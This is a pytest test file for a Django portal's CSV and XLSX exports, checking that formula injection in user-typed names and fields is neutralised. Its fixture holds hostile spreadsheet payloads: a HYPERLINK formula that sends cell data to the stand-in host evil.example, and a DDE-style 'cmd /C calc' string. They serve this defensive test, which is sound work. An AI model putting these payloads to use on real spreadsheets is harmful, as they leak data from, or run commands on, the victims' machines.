"""Formula injection is neutralised in every CSV/XLSX the portal writes.

Text a user typed (an enterprise or agency name, an indicator name…) that starts with ``= + - @``
(their full-width forms, or a tab/CR) must reach the spreadsheet as plain text, never as a
formula: in XLSX as a quote-prefixed text cell holding exactly what was typed, in CSV behind an
apostrophe. The last test scans the source for spreadsheet writers so a new export cannot slip
past this file unnoticed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from enterprises.choices import AssessmentKind, OptionCategory, OptionStatus
from enterprises.models import Assessment, Enterprise, Option
from programs.models import Indicator
from reports.choices import ReportStatus
from reports.models import AgencyReport
from tests.factories import AgencyFactory
from tests.factories_bench import build_world

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def assert_no_formula_xlsx(data: bytes) -> int:
    """No formula cell; text that starts like one is a quote-prefixed text cell, unaltered.
    Returns the number of text cells checked."""
    workbook = load_workbook(io.BytesIO(data))
    checked = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"formula in {where}"
                if isinstance(cell.value, str):
                    assert not (cell.value[:1] == "'" and cell.value[1:].startswith(DANGEROUS)), (
                        f"apostrophe added to the data in {where}: {cell.value!r}"
                    )
                    if cell.value.startswith(DANGEROUS):
                        assert cell.data_type == "s" and cell.quotePrefix, where
                    checked += 1
    return checked


def assert_no_formula_csv(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;\t")
    for row in csv.reader(io.StringIO(text), dialect):
        for value in row:
            assert not value.startswith(DANGEROUS), value


@pytest.fixture
def hostile(agency_a, staff_a, doit, lead_a):
    """A world whose user-typed text is hostile everywhere an export may show it."""
    world = build_world(agency_a=agency_a, staff_a=staff_a, doit=doit)
    evil_agency = AgencyFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", short_name="+EVIL")
    AgencyReport.objects.create(
        agency=evil_agency,
        period=world.period,
        status=ReportStatus.ACCEPTED,
        submitted_at=timezone.now(),
        accepted_at=timezone.now(),
        results=EVIL,
        difficulties="-2+3",
        proposals="@cmd",
    )
    enterprise = Enterprise.objects.create(
        tax_code="0100233488",
        name=EVIL,
        search_text="evil",
        address="+84 đường Nguy Hiểm",
        contact_name="@admin",
        contact_phone="-1",
    )
    Enterprise.objects.create(
        tax_code="0100109106",
        name='＝HYPERLINK("http://evil.example")',
        search_text="evil2",
        address="＋84 đường Toàn Khổ",
        contact_name="＠admin",
        contact_phone=PHONE,
    )
    assessment = Assessment.objects.create(
        enterprise=enterprise,
        assessed_on=dt.date(2026, 1, 10),
        kind=AssessmentKind.DETAILED,
        consultant="=1+1",
        baseline_energy_kwh=Decimal("100"),
    )
    Option.objects.create(
        assessment=assessment,
        category=OptionCategory.TECHNOLOGY_CHANGE,
        description="=cmd()",
        status=OptionStatus.IMPLEMENTED,
        implemented_on=dt.date(2026, 2, 1),
        energy_saving_kwh=Decimal("8"),
    )
    Indicator.objects.filter(pk=world.indicator.pk).update(name="=EVIL()")
    world.task.text = EVIL
    world.task.save()
    return world


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_enterprise_export_neutralises_formulas(client_for, doit, hostile, fmt):
    response = client_for(doit).get(reverse("enterprises:export", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    if fmt == "xlsx":
        assert assert_no_formula_xlsx(response.content) > 0
    else:
        assert_no_formula_csv(response.content)
    assert "HYPERLINK" in (
        response.content.decode("utf-8-sig")
        if fmt == "csv"
        else str(
            [
                c.value
                for r in load_workbook(io.BytesIO(response.content)).active.iter_rows()
                for c in r
            ]
        )
    )


def test_consolidated_annexes_neutralise_formulas(client_for, doit, hostile):
    response = client_for(doit).get(
        reverse("reports:consolidated_xlsx", kwargs={"key": hostile.period.key})
    )
    assert response.status_code == 200
    assert assert_no_formula_xlsx(response.content) > 0


def test_completeness_export_neutralises_formulas(client_for, doit, hostile):
    response = client_for(doit).get(reverse("reports:completeness"), {"format": "xlsx"})
    assert response.status_code == 200
    assert assert_no_formula_xlsx(response.content) > 0


def _dashboard_tables() -> list[str]:
    source = (ROOT / "dashboards" / "views.py").read_text(encoding="utf-8")
    return sorted(set(re.findall(r'name == "([a-z-]+)"', source)))


@pytest.mark.parametrize("table", _dashboard_tables())
def test_every_dashboard_table_export_neutralises_formulas(client_for, doit, hostile, table):
    response = client_for(doit).get(reverse("dashboards:dashboard_export", kwargs={"table": table}))
    assert response.status_code == 200
    assert_no_formula_xlsx(response.content)


PHONE = "+84 296 3850 123"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_enterprise_export_keeps_the_data_as_typed_and_imports_back_unchanged(
    client_for, doit, fmt
):
    from enterprises.importing.writing import enterprises_import

    typed = {
        "name": "=1+1 Công ty",
        "address": "-Lô A3, KCN Trà Nóc",
        "contact_name": "＠Chị Lan",
        "contact_phone": PHONE,
    }
    Enterprise.objects.create(tax_code="0100233488", search_text="x", **typed)
    response = client_for(doit).get(reverse("enterprises:export", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = {c.value: c for row in sheet.iter_rows() for c in row}
        assert PHONE in cells and cells[PHONE].data_type == "s" and cells[PHONE].quotePrefix
        assert "'" + PHONE not in cells
    else:
        assert f"'{PHONE}" in response.content.decode("utf-8-sig")
    Enterprise.objects.all().delete()
    result = enterprises_import(file=response.content, actor=doit, dry_run=False)
    assert result.ok, (result.file_error, result.errors)
    assert result.created == 1
    again = Enterprise.objects.get(tax_code="0100233488")
    assert {key: getattr(again, key) for key in typed} == typed


def test_registry_template_has_no_formulas(client_for, doit):
    response = client_for(doit).get(reverse("enterprises:import_template"))
    assert assert_no_formula_xlsx(response.content) > 0


#: every module that writes a spreadsheet, and the test above that covers it
COVERED_WRITERS = {
    "enterprises/views.py": "test_enterprise_export_neutralises_formulas",
    "enterprises/resources.py": "test_enterprise_export_neutralises_formulas",
    "enterprises/importing/template.py": "test_registry_template_has_no_formulas",
    "reports/xlsx.py": "test_consolidated_annexes_neutralise_formulas",
    "dashboards/exports.py": "test_every_dashboard_table_export_neutralises_formulas",
    "reports/views.py": "test_completeness_export_neutralises_formulas",
    "dashboards/views.py": "test_every_dashboard_table_export_neutralises_formulas",
}
WRITER = re.compile(r"Workbook\(|csv\.writer|csv\.DictWriter|\.export\(|export\(\"(csv|xlsx)\"")


def test_every_spreadsheet_writer_in_the_code_is_covered_here():
    writers = set()
    for app in ("accounts", "programs", "assignments", "enterprises", "reports"):
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or "tests" in path.parts:
                continue
            if WRITER.search(path.read_text(encoding="utf-8")):
                writers.add(path.relative_to(ROOT).as_posix())
    uncovered = writers - set(COVERED_WRITERS)
    assert not uncovered, f"spreadsheet writers without a formula-injection test: {uncovered}"
